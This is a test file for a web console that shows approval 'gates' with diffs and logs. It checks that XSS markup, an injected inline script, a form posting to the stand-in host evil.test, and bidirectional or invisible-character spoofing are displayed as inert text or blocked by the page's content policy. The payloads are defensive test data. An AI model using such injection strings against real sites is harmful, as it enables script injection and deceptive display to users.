// What agents, logs and people write may be anything: none of it runs, steers the page, or hides.
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { ATTACKS } from '../tests/support/attacks.ts';
import { openPage, startChromium } from '../tests/support/console-browser.ts';
import { type ConsoleWorld, openConsoleWorld } from '../tests/support/console-world.ts';
import { withTemporal } from '../tests/support/play-campaign.ts';
import type { Served } from './serve.ts';

withTemporal();
let world: ConsoleWorld;
let here: Served;
let browser: Browser;
beforeAll(async () => {
  [world, browser] = await Promise.all([openConsoleWorld(), startChromium()]);
  here = await world.serve();
});
afterAll(async () => {
  await browser?.close();
  await world?.close();
});

test('markup in every text of a gate is text: nothing runs, and the policy had nothing to refuse', async () => {
  const all = ATTACKS.join(' ');
  const diff = `--- a/x\n+++ b/x\n@@ -1 +1,${ATTACKS.length} @@\n-a\n${ATTACKS.map((one) => `+${one}`).join('\n')}\n`;
  const object = await world.store.put(diff);
  const json = await world.store.put(JSON.stringify(ATTACKS));
  await world.open('attacked.integrity-1', {
    ...{ title: all, why: all, risk: all, logTail: ATTACKS },
    facts: ATTACKS.map((value, at) => ({ name: `${value} ${at}`, value })),
    options: ['resume', 'abort'].map((name) => ({ name, effect: all })),
    ...{ recommended: 'abort', safe: 'abort' },
    attachments: [
      { name: all, object },
      { name: '"><script>window.hit = 9</script>', object: json },
    ],
  });
  const { page, errors, refused } = await openPage(browser);
  const asked: string[] = [];
  page.on('request', (request) => asked.push(new URL(request.url()).origin));
  await page.goto(`${here.url}/`);
  await page.locator('a[href="/gates/attacked.integrity-1"]').hover();
  await page.goto(`${here.url}/gates/attacked.integrity-1`);
  await page.getByRole('radio', { name: /^abort/ }).check();
  await page.getByLabel(/Reason/).fill(all);
  await page.getByRole('button', { name: 'Sign and send' }).last().click();
  await page.getByRole('heading', { name: /abort, decided by ada/ }).waitFor();
  await page.goto(`${here.url}/`);
  expect(await page.evaluate('window.hit')).toBeUndefined();
  expect(new Set(asked)).toEqual(new Set([here.url]));
  expect([errors, refused]).toEqual([[], []]);
  for (const path of ['/', '/gates/attacked.integrity-1']) {
    const text = await (await fetch(here.url + path)).text();
    expect(text).not.toMatch(/<img|<svg onload|<base|<a href="javascript|evil\.test\/x\.js"><\/script>/);
  }
});

test('should an escape ever fail, the policy holds: no foreign or inline script, no form to elsewhere', async () => {
  const { page, refused } = await openPage(browser);
  await page.goto(`${here.url}/`);
  await page.evaluate(`document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hit = 1"><form id=f action="http://evil.test/"></form>');
    const script = document.createElement('script'); script.textContent = 'window.hit = 2'; document.body.append(script);
    document.getElementById('f').submit()`);
  await page.waitForTimeout(300);
  expect(await page.evaluate('window.hit')).toBeUndefined();
  expect(page.url()).toBe(`${here.url}/`);
  expect(refused.length).toBeGreaterThanOrEqual(3);
});

test('escapes of terminals, bidirectional and invisible characters stand there by name', async () => {
  const text = 'pay \u202e001\u202c to\u200b me \u001b[2K\u0007 \u{e0041}\ufeff\u2066x\u2069';
  const object = await world.store.put(`--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+${text}\n`);
  await world.open('hidden.release-1', {
    title: text,
    why: text,
    logTail: [text],
    attachments: [{ name: text, object }],
  });
  const { page } = await openPage(browser);
  await page.goto(`${here.url}/gates/hidden.release-1`);
  const seen = await page.evaluate('document.documentElement.textContent');
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
  expect(seen).not.toMatch(/[\u0007\u001b\u200b\u202a-\u202e\u2066-\u2069\ufeff]|[\u{e0000}-\u{e007f}]/u);
  for (const mark of ['U+202E', 'U+200B', 'U+001B', 'U+0007', 'U+E0041', 'U+FEFF', 'U+2066'])
    expect(await page.locator('.diff mark', { hasText: mark }).count(), mark).toBe(1);
  expect(await page.title()).toContain('⟨U+202E⟩');
});

test('a diff of ten megabytes is cut, says so, and can be downloaded whole; binary evidence is named as such', async () => {
  const line = `+${'x'.repeat(99)}\n`;
  const text = `--- a/big\n+++ b/big\n@@ -0,0 +1,104000 @@\n${line.repeat(104_000)}`;
  const [big, binary, wide] = await Promise.all([
    world.store.put(text),
    world.store.put(new Uint8Array(5_000)),
    world.store.put(`--- a/w\n+++ b/w\n@@ -1 +1 @@\n+${'y'.repeat(300_000)}\n`),
  ]);
  await world.open('big.release-1', {
    attachments: [
      { name: 'big', object: big },
      { name: 'image', object: binary },
      { name: 'wide', object: wide },
    ],
  });
  const began = performance.now();
  const answered = await fetch(`${here.url}/gates/big.release-1`);
  const html = await answered.text();
  expect(html.length).toBeLessThan(150_000);
  expect(html).toContain('1 file, +104,000 −0. Cut: ');
  expect(html).toContain('Binary: not text');
  expect(html).toContain('more characters');
  expect(performance.now() - began).toBeLessThan(10_000);
  const whole = await fetch(`${here.url}/gates/big.release-1/attachments/0`);
  expect(whole.headers.get('content-disposition')).toContain('attachment');
  expect(whole.headers.get('content-type')).toBe('application/octet-stream');
  expect(await whole.text()).toBe(text);
});
